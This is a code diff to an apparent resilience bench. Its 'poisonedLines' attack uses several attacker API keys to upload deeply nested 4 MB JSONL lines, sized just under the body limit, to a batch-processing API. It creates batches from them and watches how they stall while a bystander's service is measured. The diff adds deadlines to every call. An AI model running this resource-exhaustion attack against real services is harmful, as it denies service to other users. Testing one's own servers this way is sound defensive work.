@@ -6,6 +6,7 @@ import {
   jsonOf,
   readBatch,
   sleep,
+  timeLeft,
   uploadFile,
 } from './client.js';
 
@@ -22,7 +23,7 @@ export type PoisonedLinesOptions = {
   readonly batchesPerAccount?: number;
   /** Levels of nesting of the poisoned value (2,000,000: a 4 MB line, under the 4 MiB body bound). */
   readonly depth?: number;
-  /** How long the batches are watched after they are made. */
+  /** How long the attack lasts, from the first upload: the batches are made, then watched until then. */
   readonly watchMs: number;
   readonly model?: string;
 };
@@ -55,29 +56,35 @@ export const poisonedLines = async (options: PoisonedLinesOptions): Promise<Pois
   const { url } = options;
   const line = `${poisonedLine(options.depth ?? 2_000_000, options.model)}\n`;
   const started = performance.now();
+  // Every call is bounded by what is left of the attack's time: a server the poison stalls cannot stretch it.
+  const deadline = started + options.watchMs;
   const uploads: number[] = [];
   const creates: number[] = [];
   const made: { key: string; batchId: string }[] = [];
   await Promise.all(
-    options.attackerKeys.map(async (key) => {
-      for (let i = 0; i < (options.batchesPerAccount ?? 2); i++) {
-        const uploaded = await uploadFile(url, key, line, { filename: `poisoned-${i}.jsonl` });
+    options.attackerKeys.flatMap((key) =>
+      Array.from({ length: options.batchesPerAccount ?? 2 }, async (_, i) => {
+        const uploaded = await uploadFile(url, key, line, {
+          filename: `poisoned-${i}.jsonl`,
+          timeoutMs: timeLeft(deadline, 60_000),
+        });
         uploads.push(uploaded.status);
         const fileId = jsonOf<{ id: string }>(uploaded)?.id;
-        if (uploaded.status !== 200 || fileId === undefined) continue;
-        const created = await createBatch(url, key, fileId);
+        if (uploaded.status !== 200 || fileId === undefined) return;
+        const created = await createBatch(url, key, fileId, timeLeft(deadline, 30_000));
         creates.push(created.status);
         const batchId = jsonOf<{ id: string }>(created)?.id;
         if (created.status === 200 && batchId !== undefined) made.push({ key, batchId });
-      }
-    }),
+      }),
+    ),
   );
   // Watched for the whole time even once they ended: the bench measures its bystander over the same window.
-  const deadline = started + options.watchMs;
   let batches: BatchSeen[] = [];
   let allEndedAfterSeconds: number | null = null;
   for (;;) {
-    batches = await Promise.all(made.map(({ key, batchId }) => readBatch(url, key, batchId)));
+    batches = await Promise.all(
+      made.map(({ key, batchId }) => readBatch(url, key, batchId, timeLeft(deadline, 10_000))),
+    );
     if (allEndedAfterSeconds === null && batches.every((batch) => endedStatuses.includes(batch.status)))
       allEndedAfterSeconds = (performance.now() - started) / 1000;
     if (performance.now() > deadline) break;
